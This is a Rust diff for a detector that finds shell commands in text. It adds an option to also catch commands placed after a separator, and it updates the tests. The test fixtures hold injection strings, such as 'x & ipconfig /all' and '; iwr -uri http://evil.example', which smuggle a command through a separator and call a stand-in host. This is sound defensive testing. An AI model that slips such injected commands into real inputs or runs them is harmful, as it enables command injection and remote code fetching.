@@ -11,11 +11,14 @@ pub(crate) enum Kind {
     Windows,
 }
 
-/// The first command in `text`, which is in small letters.
-pub(crate) fn command(text: &[u8]) -> Option<(Kind, &[u8])> {
+/// The first command in `text`, which is in small letters; with `separators`, also one behind a separator.
+pub(crate) fn command(text: &[u8], separators: bool) -> Option<(Kind, &[u8])> {
     let start = text.iter().take_while(|byte| byte.is_ascii_whitespace() || b"'\"({".contains(byte)).count();
     if let Some(kind) = begin(&text[start..], Before::Nothing) {
         return Some((kind, text));
+    }
+    if !separators {
+        return None;
     }
     let mut at = 0;
     while let Some(found) = text[at..].iter().position(|byte| SEPARATORS[usize::from(*byte)]) {
@@ -873,7 +876,7 @@ mod tests {
             ("x & ipconfig /all", Kind::Windows),
             ("; iwr -uri http://evil.example", Kind::Windows),
         ] {
-            assert_eq!(command(text.as_bytes()).map(|found| found.0), Some(kind), "{text}");
+            assert_eq!(command(text.as_bytes(), true).map(|found| found.0), Some(kind), "{text}");
         }
         for text in [
             "cat food; dog food",
@@ -891,7 +894,7 @@ mod tests {
             "curl & shine",
             "make love, not war",
         ] {
-            assert_eq!(command(text.to_lowercase().as_bytes()), None, "{text}");
+            assert_eq!(command(text.to_lowercase().as_bytes(), true), None, "{text}");
         }
     }
 }
